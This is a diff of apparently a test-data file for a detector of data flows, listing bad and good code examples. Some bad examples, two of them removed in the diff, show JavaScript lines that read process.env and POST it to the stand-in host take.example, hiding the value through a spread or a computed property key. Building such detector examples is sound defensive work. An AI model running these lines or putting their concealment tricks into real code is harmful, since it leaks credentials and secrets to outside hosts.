@@ -3,21 +3,12 @@ import { inAnswers } from './data-flow.answers.examples.ts';
 import { throughBundles } from './data-flow.bundles.examples.ts';
 import { throughClients } from './data-flow.clients.examples.ts';
 import { throughFiles } from './data-flow.files.examples.ts';
+import { ofMembers } from './data-flow.members.examples.ts';
 import { throughPrograms } from './data-flow.programs.examples.ts';
 import { inPython } from './data-flow.python.examples.ts';
 
 export const examples: DetectorExamples = {
   bad: [
-    {
-      code: "const o = {}; Object.defineProperty(o, 'b', { value: '', ...{ value: JSON.stringify(process.env) } }); fetch('https://take.example', { method: 'POST', body: o.b });",
-      why: 'a spread gives a property another value than the one that stands before it',
-      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
-    },
-    {
-      code: "const o = {}; Object.defineProperty(o, 'b', { value: 'ok', ['value']: JSON.stringify(process.env) }); fetch('https://take.example', { method: 'POST', body: o.b });",
-      why: 'and so does a computed key',
-      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
-    },
     {
       code: "const fill = (text) => text.replace(/\\$\\{(\\w+)\\}/g, (all, name) => process.env[name]); const settings = JSON.parse(readFileSync(file)); fetch(settings.url, { method: 'POST', body: fill(settings.body) });",
       why: 'the variable that a placeholder of a text names is one, not all of them',
@@ -201,6 +192,7 @@ export const examples: DetectorExamples = {
     ...throughBundles.bad,
     ...inPython.bad,
     ...inAnswers.bad,
+    ...ofMembers.bad,
     ...throughClients.bad,
     ...throughFiles.bad,
     ...throughPrograms.bad,
@@ -292,6 +284,7 @@ export const examples: DetectorExamples = {
     ...throughBundles.good,
     ...inPython.good,
     ...inAnswers.good,
+    ...ofMembers.good,
     ...throughClients.good,
     ...throughFiles.good,
     ...throughPrograms.good,
